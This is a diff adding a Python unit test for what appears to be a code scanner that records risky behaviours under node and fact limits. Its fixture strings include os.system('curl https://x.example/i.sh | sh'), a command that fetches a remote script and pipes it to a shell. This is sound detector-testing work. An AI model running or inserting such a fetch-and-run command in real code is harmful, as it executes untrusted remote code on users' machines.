@@ -130,6 +130,15 @@ def test_the_bound_on_nodes_is_told() -> None:
     assert found == Facts((), complete=False)
 
 
+def test_where_a_large_function_has_no_room_the_others_are_looked_at() -> None:
+    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_nodes=50)
+    large = "def f():\n" + "    g(1)\n" * 100
+    small = "def h():\n    os.system('curl https://x.example/i.sh | sh')\n"
+    found = _facts({"a.py": f"import os\n{large}\n\n{small}"}, few)
+    assert [fact.line for fact in found.facts] == [106]
+    assert not found.complete
+
+
 def test_the_bound_on_facts_is_told() -> None:
     few = dataclasses.replace(DEFAULT_LIMITS, behaviour_facts=3)
     found = _facts({"a.py": "import os\n" + "os.system('curl https://x.example/i.sh | sh')\n" * 100}, few)
